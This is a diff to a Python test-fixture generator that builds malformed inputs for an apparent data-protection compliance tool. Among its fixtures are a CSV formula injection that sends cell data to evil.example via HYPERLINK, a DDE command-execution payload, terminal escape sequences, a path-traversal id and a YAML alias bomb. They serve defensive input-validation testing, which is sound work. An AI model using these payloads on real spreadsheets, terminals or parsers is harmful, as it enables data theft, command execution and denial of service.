@@ -91,6 +91,9 @@ files["register-non-utf8.yaml"] = sub(base, "label: Newsletter\n", "label: Lettr
 files["register-nul-byte.yaml"] = sub(base, "name: Mailer SAS", "name: Mailer\x00SAS").encode()
 reg("escaped-control-character", sub(base, "label: Newsletter\n", "label: \"News\\e[31mletter\"\n"))
 reg("anchor-on-wrong-type", sub(base, "data: [contact]", "data: &d {contact: 1}"))
+reg("second-document", base + "---\nversion: 1\n")
+reg("after-end-marker", base + "...\nversion: 1\n")
+reg("machine-time-zone", sub(base, "timezone: Europe/Paris", "timezone: localtime"))
 
 # Subjects, JSON Lines and CSV.
 ok = {"key": "S-1", "identifiers": {"email": "s1@mail.example"}, "holdings": [
@@ -125,6 +128,11 @@ files["subjects-extra-field.csv"] = "key,email,activity,data,system,collected,va
 files["subjects-formula-activity.csv"] = "key,email,activity,data,system,collected,value\nS-1,s1@mail.example,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",contact,mailer,2025-01-02,x\n"
 files["subjects-unknown-column.csv"] = "key,emial,activity,data,system,collected,value\nS-1,s1@mail.example,newsletter,contact,mailer,2025-01-02,x\n"
 
+sj("zero-width-in-key", [good.replace('"S-1"', '"S-\\u200b1"')])
+sj("bidi-control-in-key", [good.replace('"S-1"', '"S-\\u202e1"')])
+sj("c1-control-in-key", [good.replace('"S-1"', '"S-\\u00851"')])
+sj("phone-of-only-plus", [alt(identifiers={"email": "s1@mail.example", "phone": "+"})])
+sj("name-in-activity", [good.replace('"activity": "newsletter"', '"activity": "Louise Morel"')])
 files["subjects-terminal-escape.jsonl"] = good.replace('"activity": "newsletter"', '"activity": "news\\u001b]0;owned\\u0007\\u001b[2J"') + "\n"
 files["subjects-control-in-identifier.csv"] = "key,email,activity,data,system,collected,value\nS-1,s1@mail.example\x08\x08\x08,newsletter,contact,mailer,2025-01-02,x\n"
 
@@ -149,6 +157,7 @@ cj("unknown-subject", [calt(subject="NOBODY-1")])
 cj("scope-duration", [calt(scope={"duration": "forever"})])
 cj("at-is-a-number", [calt(at=1700000000)])
 cj("huge-integer-version", [calt(notice={"version": 123456789012345678901234567890, "sha256": c["notice"]["sha256"]})])
+cj("dated-in-the-future", [calt(at="2099-01-01T10:00:00+01:00")])
 files["consents-bom.jsonl"] = ("\ufeff" + cg + "\n").encode()
 files["consents-formula-purpose.csv"] = ("subject,purpose,action,at,channel,notice_version,notice_sha256,evidence,recorded_by\n"
     "L-2023-001,=cmd|' /C calc'!A0,given,2025-09-05T10:00:00+02:00,web-form,newsletter-v1," + c["notice"]["sha256"] + ",form:1,website\n")
@@ -166,6 +175,7 @@ ic("id-path-traversal", sub(inc, "id: BR-2026-004", "id: ../../../etc/BR-1"))
 ic("alias-bomb", sub(inc, "measures_planned:", "x0: &m0 [a, a, a, a, a, a, a, a, a]\n" + "".join(
     f"x{i}: &m{i} [" + ", ".join([f"*m{i-1}"] * 9) + "]\n" for i in range(1, 9)) + "measures_planned: *m8\nx_planned:"))
 ic("unknown-key", sub(inc, "cause: theft", "cause: theft\nseverity: high"))
+ic("year-10000", sub(inc, "aware_at: 2026-05-29T16:00:00+02:00", "aware_at: 9999-12-31T23:00:00-02:00"))
 ic("context-wrong-type", sub(inc, "  encryption: none", "  encryption: [none, weak]"))
 
 # Batch lists for dpo sar export --batch.
